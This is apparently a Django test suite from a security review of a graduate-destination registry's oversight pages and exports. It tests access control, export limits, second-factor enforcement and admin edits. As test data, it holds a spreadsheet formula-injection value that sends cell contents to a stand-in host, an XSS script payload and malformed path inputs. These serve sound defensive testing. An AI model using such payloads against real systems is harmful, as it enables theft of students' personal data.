"""Attacks on the oversight pages, their export, the destination tallies and the streaming
export (security review, 2026-12-02).

Each test in the first section FAILS while the weakness it describes exists; the tests in
the second section prove a defence holds (regression guards).
"""

import pytest
from django.urls import reverse

from agreements.online import services as agreement_services
from destreg.accounts.models import Role
from reviews.models import ExportJob
from students.importing import registry_import
from students.models import HeldRegistryChange, RegistryRecord
from students.tallies import destination_set, differences, key_of, tallied
from tests import factories as f


def _export(client, user, django_capture_on_commit_callbacks, fmt="csv"):
    client.force_login(user)
    with django_capture_on_commit_callbacks(execute=True):
        answer = client.post(reverse("reviews:export_start"), {"fmt": fmt})
    assert answer.status_code == 302
    return ExportJob.objects.filter(user=user).latest("pk")


def _apply_held_identity_change(world, student, school_reviewer):
    """A re-import renames the confirmed graduate; the school applies the held change."""
    from students.registry_changes import held_change_apply

    record = student.record
    row = f.registry_row(world, record.student_no, "改名", f.new_id_number())
    registry_import(
        school=world.school_a, handle=f.registry_csv([row]), filename="again.csv", actor=None
    )
    held_change_apply(change=HeldRegistryChange.objects.get(), reviewer=school_reviewer)
    student.refresh_from_db()
    return record


# =============================================================================================
# FINDINGS (fail while the weakness exists)
# =============================================================================================


def test_an_export_does_not_outlive_the_staffs_move_to_another_province(
    client, province_staff, provinces, world, django_capture_on_commit_callbacks
):
    """reviews/views.py ``export``: the file is served to whoever started the job, with no
    check that its scope is still theirs. Staff of 北京 moved to 上海 (or a Ministry
    official demoted to one province) keep downloading the whole 北京 graduate list with
    names, ID-derived birth dates and employers."""
    f.make_record(world.major_a1, name="北京学生")
    job = _export(client, province_staff, django_capture_on_commit_callbacks)
    province_staff.province = provinces[1]  # moved to 上海
    province_staff.save(update_fields=["province"])
    client.force_login(province_staff)
    answer = client.get(reverse("reviews:export", args=[job.pk]), {"download": "1"})
    body = b"".join(answer.streaming_content) if answer.status_code == 200 else b""
    assert "北京学生".encode() not in body


def test_an_overseer_cannot_queue_national_exports_without_limit(client, ministry_staff, world):
    """reviews/services.py ``export_start``: no limit on jobs queued or running per user
    (the annual report has one per school). Each Ministry export streams every graduate of
    the country through a worker; a script POSTing /reviews/exports/ in a loop queues as
    many full-country jobs as it likes (a session cookie and a CSRF token are enough)."""
    f.make_record(world.major_a1)
    client.force_login(ministry_staff)
    for _ in range(5):  # the jobs are left queued: on_commit callbacks are not run
        client.post(reverse("reviews:export_start"), {"fmt": "csv"})
    assert ExportJob.objects.filter(user=ministry_staff).count() <= 1


# =============================================================================================
# HELD (pass: regression guards)
# =============================================================================================


def test_held_change_unbinding_does_not_leave_a_terminated_destination_counted(
    world, signed, student, employer_user, college_reviewer, school_reviewer
):
    """held_change_apply (students/registry_changes.py) once unbound the graduate even while
    they held an approved destination (registry_unbind refuses exactly that). Afterwards
    claim_release/claim_approve called destination_set(RegistryRecord.objects.filter(
    student=student)), which matched no record: a termination approved by both reviewers
    left the record, and the tallies the oversight pages add up, saying 'placed'. Applying
    now keeps the link and only asks the graduate to confirm again."""
    record = _apply_held_identity_change(world, student, school_reviewer)
    assert student.record_id == record.pk and not student.is_confirmed

    termination = agreement_services.termination_request(
        agreement=signed, user=student.user, reason="个人原因"
    )
    agreement_services.termination_answer(termination=termination, user=employer_user, agree=True)
    for reviewer in (college_reviewer, school_reviewer):
        agreement_services.termination_approve(termination=termination, reviewer=reviewer)

    record.refresh_from_db()
    assert record.destination is None, "terminated agreement still counted as placed"
    assert tallied()[key_of(record)] == 1 and key_of(record)[-1] is None


def test_held_change_unbinding_does_not_lose_a_destination_approved_meanwhile(
    world, agreement, student, college_reviewer, school_reviewer
):
    """Same door: the graduate's agreement in review is approved by the school after the
    held change was applied; were the graduate unbound, claim_approve would set the
    destination of no record, and the signed graduate would never be counted as placed."""
    record = _apply_held_identity_change(world, student, school_reviewer)
    agreement_services.agreement_approve(agreement=agreement, reviewer=college_reviewer)
    agreement_services.agreement_approve(agreement=agreement, reviewer=school_reviewer)
    agreement.refresh_from_db()
    assert agreement.status == agreement.Status.SIGNED
    record.refresh_from_db()
    assert record.destination is not None, "signed graduate not counted as placed"


@pytest.mark.parametrize("who", ["anonymous", "student", "employer", "college", "school"])
def test_oversight_pages_refuse_everyone_but_overseers(
    client, who, world, provinces, student, employer_user, college_reviewer, school_reviewer
):
    users = {
        "student": student.user,
        "employer": employer_user,
        "college": college_reviewer,
        "school": school_reviewer,
    }
    if who != "anonymous":
        client.force_login(users[who])
    for url in [
        reverse("reviews:oversight"),
        reverse("reviews:oversight_province", args=["110000"]),
        reverse("reviews:oversight_province", args=["unassigned"]),
        reverse("reviews:oversight_school", args=[world.school_a.pk]),
        reverse("reviews:oversight_college", args=[world.a1.pk]),
    ]:
        assert client.get(url).status_code in (302, 403, 404), (who, url)


def test_another_provinces_staff_cannot_read_this_provinces_pages(
    client, other_province_staff, world
):
    client.force_login(other_province_staff)
    for url in [
        reverse("reviews:oversight_province", args=["110000"]),
        reverse("reviews:oversight_province", args=["unassigned"]),
        reverse("reviews:oversight_school", args=[world.school_a.pk]),
        reverse("reviews:oversight_college", args=[world.a1.pk]),
    ]:
        assert client.get(url).status_code == 404, url
    # the home page sends them to their own province only
    assert client.get(reverse("reviews:oversight")).url.endswith("/310000/")


@pytest.mark.parametrize(
    "code", ["110100", "x" * 300, "%00", "0", "-1", "unassigned2", "110000 ", "１１００００"]
)
def test_bad_province_codes_are_404_not_500(client, ministry_staff, code):
    client.force_login(ministry_staff)
    assert client.get(f"/reviews/oversight/provinces/{code}/").status_code in (400, 404)


@pytest.mark.parametrize("pk", ["0", "9" * 30])
def test_bad_school_and_college_ids_are_404_not_500(client, ministry_staff, pk):
    client.force_login(ministry_staff)
    assert client.get(f"/reviews/oversight/schools/{pk}/").status_code == 404
    assert client.get(f"/reviews/oversight/colleges/{pk}/").status_code == 404


def test_overseers_cannot_export_a_schools_snapshot(client, province_staff, world):
    from django.utils import timezone

    from reviews.models import Snapshot

    snap = Snapshot.objects.create(
        school=world.school_a, graduation_year=2026, cutoff="2026-06-01", taken_at=timezone.now()
    )
    client.force_login(province_staff)
    answer = client.post(reverse("reviews:export_start"), {"fmt": "csv", "as_of": snap.pk})
    assert answer.status_code == 404


def test_a_provinces_export_holds_only_its_graduates_and_no_formulas(
    client, province_staff, world, provinces, django_capture_on_commit_callbacks
):
    f.make_record(world.major_a1, name='=HYPERLINK("http://x/?"&A2)')
    f.make_record(world.major_b1, name="上海学生")
    job = _export(client, province_staff, django_capture_on_commit_callbacks)
    import csv
    import io

    rows = list(csv.reader(io.StringIO(job.file.read().decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert "上海学生" not in names
    assert names == ['\'=HYPERLINK("http://x/?"&A2)']


def test_someone_elses_export_job_is_404(
    client, province_staff, other_province_staff, world, django_capture_on_commit_callbacks
):
    f.make_record(world.major_a1)
    job = _export(client, province_staff, django_capture_on_commit_callbacks)
    client.force_login(other_province_staff)
    url = reverse("reviews:export", args=[job.pk])
    assert client.get(url, {"download": "1"}).status_code == 404


def test_a_demoted_overseer_loses_the_export_page(
    client, province_staff, world, django_capture_on_commit_callbacks
):
    f.make_record(world.major_a1)
    job = _export(client, province_staff, django_capture_on_commit_callbacks)
    province_staff.role = Role.STUDENT
    province_staff.province = None
    province_staff.save(update_fields=["role", "province"])
    client.force_login(province_staff)
    assert client.get(reverse("reviews:export", args=[job.pk]), {"download": "1"}).status_code in (
        302,
        403,
        404,
    )


def test_oversight_pages_escape_school_and_college_names(client, ministry_staff, world, provinces):
    world.a1.name = "<script>alert(1)</script>"
    world.a1.save(update_fields=["name"])
    record = f.make_record(world.major_a1)
    destination_set(RegistryRecord.objects.filter(pk=record.pk), f.code("destination", "10"), None)
    client.force_login(ministry_staff)
    page = client.get(reverse("reviews:oversight_school", args=[world.school_a.pk]))
    assert b"<script>alert(1)" not in page.content


def test_registry_admin_edit_moves_the_counters(client, platform_admin, world):
    record = f.make_record(world.major_a1)
    destination_set(RegistryRecord.objects.filter(pk=record.pk), f.code("destination", "10"), None)
    client.force_login(platform_admin)
    client.post(reverse("admin:students_registryrecord_delete", args=[record.pk]), {"post": "yes"})
    assert differences() == {}


def test_an_overseer_without_the_second_factor_is_kept_out(client, ministry_staff, world):
    # a password-only session (no verified device), built by hand
    from django.contrib.auth import BACKEND_SESSION_KEY, HASH_SESSION_KEY, SESSION_KEY

    session = client.session
    session[SESSION_KEY] = str(ministry_staff.pk)
    session[BACKEND_SESSION_KEY] = "django.contrib.auth.backends.ModelBackend"
    session[HASH_SESSION_KEY] = ministry_staff.get_session_auth_hash()
    session.save()
    client.cookies["sessionid"] = session.session_key
    answer = client.get(reverse("reviews:oversight_school", args=[world.school_a.pk]))
    assert answer.status_code in (302, 403)
    assert world.school_a.name.encode() not in answer.content


# --- admin edits that would move a graduate's destination behind the tallies' back ---


def _admin_editable(model, obj, platform_admin):
    from django.contrib import admin
    from django.test import RequestFactory

    request = RequestFactory().get("/")
    request.user = platform_admin
    model_admin = admin.site._registry[model]
    form = model_admin.get_form(request, obj)
    readonly = set(model_admin.get_readonly_fields(request, obj))
    return set(form.base_fields) - readonly


def test_admin_cannot_hand_a_signed_agreement_to_another_graduate(signed, platform_admin):
    """agreements/admin.py AgreementAdmin: ``student`` (and school, college) stay editable
    on a SIGNED agreement. Re-pointing it at another graduate skips the state-change door
    and destination_set: the first graduate's record and the tallies keep 签就业协议, the
    new one's stay empty, and the export lists the agreement against the new graduate."""
    from agreements.models import Agreement

    editable = _admin_editable(Agreement, signed, platform_admin)
    assert not editable & {"student", "school", "college"}, editable


def test_admin_cannot_change_the_destination_of_an_approved_registration(
    world, student, platform_admin
):
    """agreements/admin.py RegistrationAdmin: ``destination`` is editable whatever the
    status; on an approved registration the record and the tallies keep the old code."""
    from agreements.models import Registration

    registration = Registration(student=student, school=world.school_a, college=world.a1,
                                status=Registration.Status.APPROVED)  # fmt: skip
    editable = _admin_editable(Registration, registration, platform_admin)
    assert "destination" not in editable, editable
